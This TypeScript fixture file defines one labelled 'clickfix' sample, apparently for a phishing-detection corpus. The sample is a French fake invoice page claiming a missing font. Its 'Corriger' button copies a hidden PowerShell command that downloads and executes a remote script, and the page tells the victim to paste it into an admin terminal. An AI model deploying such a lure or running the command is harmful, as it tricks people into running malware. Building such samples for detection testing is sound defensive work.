import { htmlRoute, type Entry } from '../entry.js';
import { pngRoute } from '../parts/e-bin.js';
import { doc } from '../parts/za-kit.js';

export const entries: Entry[] = [
  {
  id: 'za-clickfix-shared-doc-fix-fr',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://docs-partage-securise.fr/fichier/Facture_2025_1184',
  body: doc({
    title: 'Document partagé — erreur d’affichage',
    lang: 'fr',
    css: `body{margin:0;font-family:Segoe UI,Arial;background:#e9ecef}.d{max-width:760px;margin:30px auto;background:#fff;height:480px;filter:blur(3px);padding:20px}.e{position:fixed;top:110px;left:50%;transform:translateX(-50%);width:500px;background:#fff;border-top:4px solid #d9534f;padding:22px;box-shadow:0 4px 24px #0004}button{background:#0078d4;color:#fff;border:0;padding:10px 20px}code{display:block;background:#f4f4f4;padding:8px;font-size:12px;margin:8px 0}`,
    body: `<div class="d"><h2>Facture n° 2025-1184</h2><p>Montant TTC : 1 284,00 €</p></div><div class="e"><h3>⚠ Le document ne peut pas s’afficher</h3><p>Les polices « Calibri Light » ne sont pas installées sur votre ordinateur. Cliquez sur « Corriger » puis suivez les instructions pour afficher la facture.</p><button id="fx">Corriger</button><div id="i" style="display:none"><p>1. Appuyez sur <b>Win + X</b> puis choisissez <b>Terminal (Admin)</b><br>2. Collez avec <b>Ctrl + V</b> et appuyez sur <b>Entrée</b></p><code>Installation automatique des polices…</code></div></div>
<script>document.getElementById('fx').onclick=function(){navigator.clipboard.writeText('powershell -NoP -W Hidden -C "$u=\\'https://docs-partage-securise.fr/polices/fix.ps1\\';iex (New-Object Net.WebClient).DownloadString($u)"');document.getElementById('i').style.display='block';this.textContent='Copié ✓';};</script>`,
  }),
},
];
